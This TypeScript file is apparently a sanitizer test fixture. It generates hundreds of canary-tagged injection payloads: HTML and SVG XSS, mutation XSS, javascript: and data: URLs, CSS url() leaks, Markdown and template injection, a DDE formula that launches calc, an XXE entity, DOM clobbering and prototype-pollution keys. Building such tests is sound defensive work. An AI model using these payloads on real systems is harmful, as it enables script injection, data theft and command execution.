/**
 * Text that would run, load or navigate where somebody takes text for markup, code, a style or an address. Each *vector*
 * tells on itself: what runs adds its number to `top.canary`, what loads asks the catch-all server for `/hit/<number>`.
 *
 * In the lists `@J` stands for that code, `@U` for that address, `@H` for it without the scheme, `@W` for a socket there.
 */
export interface Vector {
  readonly number: number;
  readonly text: string;
}

/** @param host name and port of the catch-all server */
export function vectorsFor(host: string): readonly Vector[] {
  return VECTORS.map((template, number) => {
    const place = `${host}/hit/${number}`;
    const words: Readonly<Record<string, string>> = {
      '@J': `top.canary=[top.canary,${number}]`,
      '@U': `http://${place}`,
      '@H': place,
      '@W': `ws://${place}`,
    };
    return { number, text: template.replace(/@[JUHW](?![a-z])/g, (word) => words[word] ?? word) };
  });
}

const ELEMENTS = String.raw`
<script>@J</script>
<script src="@U"></script>
<SCRIPT>@J</SCRIPT>
<script type="module">@J</script>
<script type="module" src="@U"></script>
<script/x>@J</script>
<script >@J</script >
<script>@J</script
<scr<script>ipt>@J</scr</script>ipt>
<svg><script>@J</script></svg>
<svg><script href="@U" />
<svg><script>&#116;op.canary=[top.canary,1];@J</script></svg>
<svg><script xlink:href="data:text/javascript,@J" />
<math><mtext></p><script>@J</script></mtext></math>
<img src=x onerror=@J>
<img src="@U">
<img src=x onerror="@J">
<img src=x onerror='@J'>
<img/src=x/onerror=@J>
<img src=x:x onerror	=	@J>
<IMG SRC=x ONERROR=@J>
<img src=x onerror=&#116;op.canary=[top.canary,1];@J>
<img srcset="@U 1x, @U?2 2x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@J'/>" onload=@J>
<img lowsrc="@U" dynsrc="@U">
<picture><source srcset="@U"><img></picture>
<image src=x onerror=@J>
<input type=image src="@U" onerror=@J>
<input autofocus onfocus=@J>
<textarea autofocus onfocus=@J></textarea>
<select autofocus onfocus=@J></select>
<button autofocus onfocus=@J>x</button>
<video src=x onerror=@J></video>
<video poster="@U"></video>
<video><source src=x onerror=@J></video>
<video src="@U" autoplay></video>
<audio src=x onerror=@J></audio>
<audio src="@U" autoplay></audio>
<track src="@U" default>
<body onload=@J>
<body onpageshow=@J>
<body background="@U">
<frameset onload=@J>
<frameset><frame src="@U"></frameset>
<iframe src="@U"></iframe>
<iframe src="javascript:@J"></iframe>
<iframe src="JaVaScRiPt:@J"></iframe>
<iframe src="java&#9;script:@J"></iframe>
<iframe src="&#x6A;avascript:@J"></iframe>
<iframe src=" javascript:@J"></iframe>
<iframe src="data:text/html,<script>@J</script>"></iframe>
<iframe srcdoc="<script>@J</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=@J&gt;"></iframe>
<iframe srcdoc='<svg onload="@J">'></iframe>
<iframe onload=@J></iframe>
<iframe src=vbscript:msgbox(1)></iframe>
<object data="javascript:@J"></object>
<object data="@U"></object>
<object data="data:text/html,<script>@J</script>" type="text/html"></object>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>@J</script></svg>"></object>
<embed src="javascript:@J">
<embed src="@U" type="text/html">
<applet code="X" archive="@U"></applet>
<portal src="@U"></portal>
<fencedframe src="@U"></fencedframe>
<link rel=stylesheet href="@U">
<link rel="preload" as="image" href="@U">
<link rel=modulepreload href="@U">
<link rel=prefetch href="@U">
<link rel=dns-prefetch href="//@H">
<link rel=preconnect href="@U">
<link rel="shortcut icon" href="@U">
<link rel=manifest href="@U">
<link rel=import href="@U" onload=@J onerror=@J>
<base href="@U/"><script src="a.js"></script>
<base href="javascript:@J//"><a href="#" id=x>click</a>
<base target="_blank" href="@U">
<meta http-equiv="refresh" content="0; url=@U">
<meta http-equiv="refresh" content="0; url=javascript:@J">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>@J</script>">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">
<meta http-equiv="Set-Cookie" content="canary=1">
<form action="@U"><input name=a><button autofocus onfocus=this.form.submit()></form>
<form action="javascript:@J"><input type=submit autofocus onfocus=this.click()></form>
<form id=f></form><button form=f formaction="javascript:@J" autofocus onfocus=click()>x</button>
<isindex type=image src="@U" onerror=@J>
<details open ontoggle=@J>x</details>
<dialog open onclose=@J><form method=dialog><button autofocus onfocus=click()></form></dialog>
<marquee onstart=@J>x</marquee>
<bgsound src="@U">
<layer src="@U"></layer>
<table background="@U"><tr><td background="@U">x</table>
<keygen autofocus onfocus=@J>
<custom-element autofocus tabindex=1 onfocus=@J>x</custom-element>
<xss id=x tabindex=1 onfocus=@J autofocus>x</xss>
<p onclick=@J onmouseover=@J onpointerenter=@J>hover</p>
<p style="animation: x 1ms" onanimationstart=@J><style>@keyframes x { from { color: red } }</style>
<p style="transition: color 1ms; color: red" ontransitionrun=@J ontransitionend=@J>x</p>
<div contenteditable oninput=@J onbeforeinput=@J autofocus onfocus=@J>x</div>
<p onbeforecopy=@J oncopy=@J onpaste=@J onwheel=@J onscroll=@J>x</p>
<a href="javascript:@J" id=xss-link autofocus onfocus=click()>x</a>
<a href="&#106;&#97;&#118;&#97;script:@J">x</a>
<a href="&#x09;java&Tab;script&colon;@J" autofocus onfocus=click()>x</a>
<a href="\x01javascript:@J" target=_blank>x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD50b3AuY2FuYXJ5PTE8L3NjcmlwdD4=" target=_blank>x</a>
<a href="//@H" ping="@U" autofocus onfocus=click()>x</a>
<a href="file:///etc/passwd">x</a>
<area href="javascript:@J" shape=default autofocus onfocus=click()>
<svg onload=@J>
<svg/onload=@J>
<svg><g onload=@J></g></svg>
<svg><animate onbegin=@J attributeName=x dur=1s>
<svg><set onbegin=@J attributeName=x to=0>
<svg><animate onend=@J attributeName=x dur=1ms>
<svg><animateTransform onbegin=@J attributeName=transform dur=1s>
<svg><a><animate attributeName=href values="javascript:@J" /><text x=20 y=20>x</text></a></svg>
<svg><a xlink:href="javascript:@J"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>@J</script></svg>#x" /></svg>
<svg><use href="@U#x" /></svg>
<svg><image href="@U" /></svg>
<svg><image href=x onerror=@J /></svg>
<svg><feImage href="@U" /></svg>
<svg><foreignObject><iframe srcdoc="<script>@J</script>"></iframe></foreignObject></svg>
<svg><foreignObject><img src=x onerror=@J></foreignObject></svg>
<svg><style>@import "@U";</style></svg>
<svg><discard onbegin=@J>
<svg><script>/*&lt;/script&gt;*/@J</script></svg>
<math href="javascript:@J">x</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:@J">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=@J></annotation-xml></math>
<style>@import url(@U);</style>
<style>@import "@U";</style>
<style>body { background: url("@U") }</style>
<style>* { list-style: url(@U) } li { display: list-item }</style><li>x
<style>@font-face { font-family: x; src: url(@U) } * { font-family: x }</style>
<style>input[value^="a"] { background: url(@U) }</style><input value=abc>
<style>*{-webkit-mask:image-set(url(@U) 1x)}</style>
<style>@namespace url(@U); @charset "@U";</style>
<p style="background: url(@U)">x</p>
<p style="background-image: image-set('@U' 1x)">x</p>
<p style="width: expression(@J)">x</p>
<p style="behavior: url(@U); -moz-binding: url(@U#x)">x</p>
<p style="border-image: url('@U') 1; cursor: url(@U), auto">x</p>
<p style="content: url(@U); filter: url(@U#x)">x</p>
<template><script>@J</script></template>
<template shadowrootmode=open><img src=x onerror=@J></template>
<div><template shadowrootmode=open><style>:host { background: url(@U) }</style><slot></slot></template>x</div>
<div><template shadowrootmode="closed"><script>@J</script></template></div>
<slot name=x onslotchange=@J></slot>
<noscript><p title="</noscript><img src=x onerror=@J>">
<noembed><img src="</noembed><img src=x onerror=@J>">
<noframes><p title="</noframes><svg onload=@J>">
<title><p title="</title><img src=x onerror=@J>">
<textarea><p title="</textarea><img src=x onerror=@J>">
<xmp><p title="</xmp><img src=x onerror=@J>">
<plaintext><img src=x onerror=@J>
<listing>&lt;img src=x onerror=@J&gt;</listing>
`;

/** What changes its meaning on being parsed twice, moved, or cleaned by somebody else's rules. */
const MUTATIONS =
  String.raw`
<svg></p><style><a id="</style><img src=x onerror=@J>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@J&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@J>
<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=@J>">
<svg><desc><style><img src="</style><img src=x onerror=@J>"></desc></svg>
<svg><title><style><a title="</style><img src=x onerror=@J>"></title></svg>
<math><annotation-xml><style><a title="</style><svg onload=@J>">
<table><tr><td><svg><tr><style><a title="</style><img src=x onerror=@J>">
<select><style><a title="</style><img src=x onerror=@J>"></select>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=@J>">
<noscript><style></noscript><img src=x onerror=@J></style>
<div id="1
<p id="</title><img src=x onerror=@J>">
<a<b<img src=x onerror=@J>
<<img src=x onerror=@J>
<img src="x` +
  '`' +
  String.raw`<img src=x onerror=@J>
<img ` +
  '`' +
  String.raw`onerror=@J src=x>
<img src='x"><img src=x onerror=@J>'>
<//<img src=x onerror=@J>
</<img src=x onerror=@J>
<!<img src=x onerror=@J>
<?<img src=x onerror=@J>
<!--><img src=x onerror=@J>-->
<!---><img src=x onerror=@J>-->
<!-- --!><img src=x onerror=@J>
<!--[if gte IE 4]><script>@J</script><![endif]-->
<!--[if true]><img src=x onerror=@J><![endif]-->
<![CDATA[<img src=x onerror=@J>]]>
<svg><![CDATA[</svg><img src=x onerror=@J>]]></svg>
<?xml version="1.0"?><?xml-stylesheet href="@U"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">@J</x:script>
<!DOCTYPE x [<!ENTITY e SYSTEM "@U">]><x>&e;</x>
<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="@U"/></x>
<p></p></div></body></html><script>@J</script>
</script><script>@J</script>
</style><script>@J</script>
</title><script>@J</script>
</textarea><script>@J</script>
</template><script>@J</script>
--><script>@J</script><!--
]]><script>@J</script>
"><script>@J</script>
'><script>@J</script>
"><img src=x onerror=@J>
' onfocus=@J autofocus x='
" onfocus=@J autofocus x="
" style="animation: x 1s" onanimationstart="@J
x onmouseover=@J y=
\"><script>@J</script>
\u003cscript\u003e@J\u003c/script\u003e
\x3cimg src=x onerror=@J\x3e
%3Cscript%3E@J%3C/script%3E
&lt;script&gt;@J&lt;/script&gt;
&#60;script&#62;@J&#60;/script&#62;
&amp;lt;img src=x onerror=@J&amp;gt;
+ADw-script+AD4-@J+ADw-/script+AD4-
＜script＞@J＜/script＞
‹script›@J‹/script›
<ſcript>@J</ſcript>
<img src=x onerror=\u0074op.canary=[top.canary,1];@J>
`;

/** What is no markup: for whoever takes text for code, an address, a template, Markdown, a property or a name. */
const OTHERS = String.raw`
javascript:@J
JAVASCRIPT:@J
java	script:@J
javascript://%0a@J
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+@J//'>
vbscript:msgbox(1)
data:text/html,<script>@J</script>
data:text/html;base64,PHNjcmlwdD50b3AuY2FuYXJ5PTE8L3NjcmlwdD4=
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="@J"/>
blob:@U
view-source:@U
@U
@W
//@H
\\@H
file:///etc/passwd
[x](javascript:@J)
[x](JaVaScRiPt:@J)
[x](java&#115;cript:@J)
[x](<javascript:@J>)
[x](data:text/html,<script>@J</script>)
[x](vbscript:msgbox(1))
![x](@U)
![x](javascript:@J)
![x](x"onerror="@J)
![x][r]
[x][r] and [r]: @U "onmouseover=@J"
<javascript:@J>
<@U>
[a]: javascript:@J
[x](@U "title"onmouseover="@J")
[![x](@U)](javascript:@J)
{{constructor.constructor('@J')()}}
{{$on.constructor('@J')()}}
{{[].pop.constructor('@J')()}}
#{@J}
<%= @J %>
<div ng-app ng-csp><p ng-focus="@J" autofocus tabindex=1>{{@J}}</p></div>
<div v-html="'<img src=x onerror=@J>'" x-data x-init="@J" hx-get="@U" hx-trigger=load></div>
';@J;//
";@J;//
\';@J;//
*/@J/*
);@J;(
}@J{
</script>';@J;//
};url(@U);{
*{background:url(@U)}
@import url(@U);
expression(@J)
=HYPERLINK("@U","x")
=cmd|' /C calc'!A0
\href{javascript:@J}{x}
{\rtf1{\field{\*\fldinst{HYPERLINK "@U"}}}}
<a id=canary></a><a id=canary name=x>clobber</a>
<form id=host><input name=call></form>
<img name=body><img id=currentScript name=currentScript>
<form id=document><input name=cookie><input id=attributes name=attributes></form>
<iframe name=host srcdoc="<a id=call></a>"></iframe>
<object id=root name=host></object>
<p id=root class=article data-pane=article>clobber</p>
<meta name=csp-nonce content="x"><meta id=react-aria-pressable-style>
__proto__
constructor.prototype.canary
{"__html":"<img src=x onerror=@J>"}
{"$$typeof":"Symbol(react.element)","type":"iframe","props":{"src":"@U"}}
`;

/** Vectors that hold what a line of source cannot show well. */
const UNPRINTABLE = [
  '<script><!--\n@J\n//--></script>',
  ['$', '{@J}'].join(''),
  '<scr\0ipt>@J</scr\0ipt>',
  '<img src=x \0onerror=@J>',
  'java\0script:@J',
  'java\nscript:@J',
  '<img\fsrc=x\fonerror=@J>',
  '<img\u000bsrc=x\u000bonerror=@J>',
  '<script>//\u2028@J</script>',
  '\u2029<script>@J</script>',
  '\u202e<script>@J</script>\u202c',
  '\ufeff<script>@J</script>',
  '<\u200bscript>@J</script>',
  '\ud83d\ude00"><img src=x onerror=@J>\ud83d\ude00',
  '<img src=x\r\nonerror=@J>',
  '<a href="\u0001javascript:@J" autofocus onfocus=click()>x</a>',
  '\u001b]8;;javascript:@J\u0007x\u001b]8;;\u0007',
];

const linesOf = (list: string): readonly string[] => list.split('\n').filter((line) => line !== '');

const VECTORS: readonly string[] = [
  ...new Set([...linesOf(ELEMENTS), ...linesOf(MUTATIONS), ...linesOf(OTHERS), ...UNPRINTABLE]),
];
